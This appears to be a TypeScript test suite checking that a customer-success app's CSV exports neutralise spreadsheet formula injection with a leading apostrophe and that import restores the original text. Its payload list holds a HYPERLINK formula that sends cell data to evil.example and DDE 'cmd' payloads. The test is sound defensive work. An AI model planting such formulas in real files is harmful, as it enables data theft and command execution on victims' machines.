// Spreadsheet formula injection (issue 18), on every database engine: a text cell a
// spreadsheet would evaluate (leading = + - @ tab or carriage return) leaves every
// CSV export — the file, /export in chat and the download link — with a leading
// apostrophe, and the CSV import takes exactly that apostrophe off again, so
// export → import gives back the text people typed.
import type { AddressInfo } from 'node:net';
import express from 'express';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRegistry } from '../../commands/registry.js';
import type { Database } from '../../db/client.js';
import { accountNames, createAccount, type Account } from '../../src/core/accounts.js';
import { logCheckin } from '../../src/core/checkins.js';
import { portfolioHealth } from '../../src/core/health-inputs.js';
import { saveSnapshots } from '../../src/core/health-snapshots.js';
import { DEFAULT_BUSINESS_HOURS } from '../../src/core/sla.js';
import type { Workspace } from '../../src/core/workspaces.js';
import { recordAnswer, recordReason, startSurvey } from '../../src/core/surveys.js';
import { openTicket, resolveTicket } from '../../src/core/tickets.js';
import { neutraliseCell, restoreCell } from '../../src/data/csv-cells.js';
import { EXPORT_KINDS, exportCsvText, type ExportKind } from '../../src/data/export.js';
import { importCsv } from '../../src/data/import.js';
import { ExportLinks, exportsRouter } from '../../src/http/exports.js';
import { createLogger } from '../../src/log.js';
import { collectingLog, newContext } from '../helpers/context.js';
import { ENGINES } from '../helpers/engines.js';

const NOW = new Date('2026-11-23T10:00:00Z');
const actor = { userId: null, now: NOW, label: 'CSV import (test)' };

/** One text per dangerous leading character, each a payload seen in the wild. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=HYPERLINK("http://evil.example/")',
];
/** Printable ones for account names; tab and CR go in tiers, contacts and notes. */
const NAMES = [...FORMULAS.slice(0, 4), "'=quoted by its owner", '-20', 'Plain Co'];
/** Tiers are short (the importer keeps 40 characters). */
const TIERS = FORMULAS.map((f) => f.slice(0, 24));

/** What a spreadsheet would evaluate: a dangerous first character, unless the cell is a plain number. */
const evaluated = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(?:\.\d+)?$/.test(cell);
const rowsOf = (csv: string) => parse(csv) as string[][];
const column = (csv: string, name: string) => {
  const [header, ...rows] = rowsOf(csv);
  const i = header!.indexOf(name);
  return rows.map((r) => r[i]!);
};
/** The survey export's reasons (its score rows have none). */
const reasonsOf = (csv: string) => column(csv, 'reason').filter((r) => r !== '');

describe('neutraliseCell / restoreCell', () => {
  it('prefixes an apostrophe to text a spreadsheet would evaluate, and to nothing else', () => {
    const table: [string | number | null, string | number | null][] = [
      ...FORMULAS.map((f): [string, string] => [f, `'${f}`]),
      ['-', "'-"],
      ['-20 seats lost', "'-20 seats lost"],
      ['-1e5', "'-1e5"],
      ['-2+3', "'-2+3"],
      ['+20', "'+20"],
      ["'=already", "''=already"],
      ["''@twice", "'''@twice"],
      // A plain negative number stays a number the spreadsheet can sum.
      ['-20', '-20'],
      ['-1200.50', '-1200.50'],
      [-20, -20],
      [42, 42],
      [null, null],
      ['', ''],
      ['Acme, Inc.', 'Acme, Inc.'],
      ["'premium", "'premium"],
      [' =1+1', ' =1+1'],
      ['a=b', 'a=b'],
    ];
    for (const [cell, written] of table) expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(written);
  });

  it('reads back exactly the text that was written, for every string', () => {
    const texts = [...FORMULAS, '-', '-20', '-1e5', "'", "'=x", "''=x", "'-20", "'premium", "''", 'plain', '', ' =1+1', "'\t", "'\r"];
    for (const text of texts) expect(restoreCell(String(neutraliseCell(text))), JSON.stringify(text)).toBe(text);
  });
});

describe.each(ENGINES)('formulas in CSV exports on $name', (engine) => {
  let database: Database;
  let release: () => Promise<void>;
  let workspaceId: string;
  const log = collectingLog();
  const registry = createRegistry(log);
  let ctx: Awaited<ReturnType<typeof newContext>>;
  const db = () => database.db;
  const csvOf = (c: { workspace: Workspace }, kind: ExportKind) => exportCsvText(db(), c.workspace, kind, { now: NOW });

  beforeAll(async () => {
    ({ database, release } = await engine.open());
    ctx = await newContext(db(), { now: NOW, workspace: 'formulas' });
    workspaceId = ctx.workspace.id;
    // Made through core (not an import) so the stored text is exactly what was typed.
    const made: Account[] = [];
    for (const [i, name] of NAMES.entries()) {
      made.push(await createAccount(db(), workspaceId, { name, externalId: i === 0 ? '+1-555-0100' : `crm-${i}`, tier: TIERS[i % TIERS.length]! }, actor));
    }
    // Contacts and usage come the way a customer's CRM file brings them: every cell quoted, so tab and CR survive.
    const contactsCsv = stringify([['external_id', 'contact_name'], ...made.map((a, i) => [a.externalId, FORMULAS[(i + 1) % FORMULAS.length]])], { quoted: true });
    expect((await importCsv(db(), workspaceId, contactsCsv, { actor })).errors).toEqual([]);
    const usageCsv = stringify([['external_id', 'date', 'active_users'], ...made.map((a) => [a.externalId, '2026-11-01', '10'])], { quoted: true });
    expect((await importCsv(db(), workspaceId, usageCsv, { actor, kind: 'usage' })).errors).toEqual([]);

    const target = made[0]!;
    const survey = await startSurvey(db(), workspaceId, { accountId: target.id, kind: 'nps', channelId: 'general', anonymous: false, openedByUserId: null, now: NOW, closeAfterDays: 7 });
    for (const [i, text] of FORMULAS.entries()) {
      const at = new Date(NOW.getTime() + i * 60_000);
      await logCheckin(db(), workspaceId, { accountId: target.id, userId: null, type: 'call', occurredAt: at, notes: text, sentiment: 'neutral', nextStepDate: null, channelId: null }, at);
      const ticket = await openTicket(db(), workspaceId, { accountId: target.id, severity: 'minor', title: text, technology: text, channelId: null }, { timezone: 'UTC', ...DEFAULT_BUSINESS_HOURS }, { userId: null, now: at });
      await resolveTicket(db(), workspaceId, ticket.number, text, { userId: null, now: at });
      // Customers write survey reasons: the most exposed column of all.
      // A reason belongs to an answer: each customer scores first.
      await recordAnswer(db(), workspaceId, survey, { respondentKey: `user:customer-${i}`, respondentUserId: null, question: 'nps', score: 9, now: at });
      await recordReason(db(), workspaceId, survey, { respondentKey: `user:customer-${i}`, respondentUserId: null, reason: text, now: at });
    }
    // A stored day of health for every account: the health-history export names them too.
    await saveSnapshots(db(), workspaceId, await portfolioHealth(db(), workspaceId, { now: NOW, timezone: 'UTC' }), { day: '2026-11-23', now: NOW });
  });
  afterAll(async () => {
    await release();
    expect(log.entries).toEqual([]);
  });

  it('leaves no cell a spreadsheet would evaluate in any export, and keeps plain negative numbers as they are', async () => {
    for (const kind of EXPORT_KINDS) {
      const rows = rowsOf(await csvOf(ctx, kind));
      for (const cell of rows.flat()) expect(evaluated(cell), `${kind}: ${JSON.stringify(cell)}`).toBe(false);
    }
    const quoted = (texts: string[]) => texts.map((t) => `'${t}`);
    const accountsCsv = await csvOf(ctx, 'accounts');
    expect(column(accountsCsv, 'name')).toEqual(expect.arrayContaining([...quoted(FORMULAS.slice(0, 4)), "''=quoted by its owner", '-20', 'Plain Co']));
    expect(column(accountsCsv, 'tier')).toEqual(expect.arrayContaining(quoted(TIERS)));
    expect(column(await csvOf(ctx, 'contacts'), 'contact_name')).toEqual(expect.arrayContaining(quoted(FORMULAS)));
    expect(column(accountsCsv, 'external_id')).toContain("'+1-555-0100");
    const checkinsCsv = await csvOf(ctx, 'checkins');
    expect(column(checkinsCsv, 'notes')).toEqual(quoted(FORMULAS));
    expect(column(checkinsCsv, 'account')).toEqual(quoted(Array(FORMULAS.length).fill(FORMULAS[0])));
    const ticketsCsv = await csvOf(ctx, 'tickets');
    for (const name of ['title', 'technology', 'resolution_note']) expect(column(ticketsCsv, name), name).toEqual(quoted(FORMULAS));
    expect(reasonsOf(await csvOf(ctx, 'surveys'))).toEqual(quoted(FORMULAS));
  });

  it('gives back the original text of every neutralised cell when read back', async () => {
    const checkins = column(await csvOf(ctx, 'checkins'), 'notes');
    const reasons = reasonsOf(await csvOf(ctx, 'surveys'));
    const titles = column(await csvOf(ctx, 'tickets'), 'title');
    for (const cells of [checkins, reasons, titles]) expect(cells.map(restoreCell)).toEqual(FORMULAS);
  });

  it('round-trips accounts, contacts and usage with formula-like text through export → import', async () => {
    const copy = await newContext(db(), { now: NOW, workspace: 'formulas-copy' });
    const accountsCsv = await csvOf(ctx, 'accounts');
    const contactsCsv = await csvOf(ctx, 'contacts');
    const usageCsv = await csvOf(ctx, 'usage');
    expect((await importCsv(db(), copy.workspace.id, accountsCsv, { actor })).errors).toEqual([]);
    expect((await importCsv(db(), copy.workspace.id, contactsCsv, { actor })).errors).toEqual([]);
    expect((await importCsv(db(), copy.workspace.id, usageCsv, { actor })).errors).toEqual([]);
    expect(await accountNames(db(), copy.workspace.id)).toEqual(await accountNames(db(), workspaceId));
    expect(await csvOf(copy, 'accounts')).toBe(accountsCsv);
    expect(await csvOf(copy, 'contacts')).toBe(contactsCsv);
    const withoutSource = (csv: string) => rowsOf(csv).map((r) => r.slice(0, -1));
    expect(withoutSource(await csvOf(copy, 'usage'))).toEqual(withoutSource(usageCsv));
    // Back into its own workspace: every name and id is found again, nothing changes.
    expect(await importCsv(db(), workspaceId, accountsCsv, { actor })).toMatchObject({ created: 0, updated: 0, errorCount: 0 });
    expect(await importCsv(db(), workspaceId, contactsCsv, { actor })).toMatchObject({ created: 0, updated: 0, errorCount: 0 });
  });

  it('reads a spreadsheet-saved file: one apostrophe before a formula character comes off, any other stays', async () => {
    const saved = await newContext(db(), { now: NOW, workspace: 'spreadsheet-saved' });
    const file = stringify([['name', 'tier'], ["'=Saved from Excel", "'premium"], ["''@twice", "'-5"]]);
    expect((await importCsv(db(), saved.workspace.id, file, { actor })).errors).toEqual([]);
    expect((await accountNames(db(), saved.workspace.id)).sort()).toEqual(["'@twice", '=Saved from Excel']);
    // "'premium" is text with an apostrophe of its own; "'-5" was a neutralised cell.
    expect(column(await csvOf(saved, 'accounts'), 'tier').sort()).toEqual(["'premium", '-5']);
  });

  it('neutralises the file /export posts in chat and the download link serves', async () => {
    const reply = await registry.run(ctx, '/export surveys');
    expect(reasonsOf(String(reply.files![0]!.content))).toEqual(FORMULAS.map((t) => `'${t}`));

    const links = ExportLinks.fromSecret('test secret');
    const app = express().use(exportsRouter({ db: db(), links, clock: () => NOW, logger: createLogger('silent') }));
    const server = app.listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const res = await fetch(`http://127.0.0.1:${port}${links.sign(workspaceId, 'checkins', NOW).path}`);
      expect(res.status).toBe(200);
      expect(column(await res.text(), 'notes')).toEqual(FORMULAS.map((t) => `'${t}`));
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
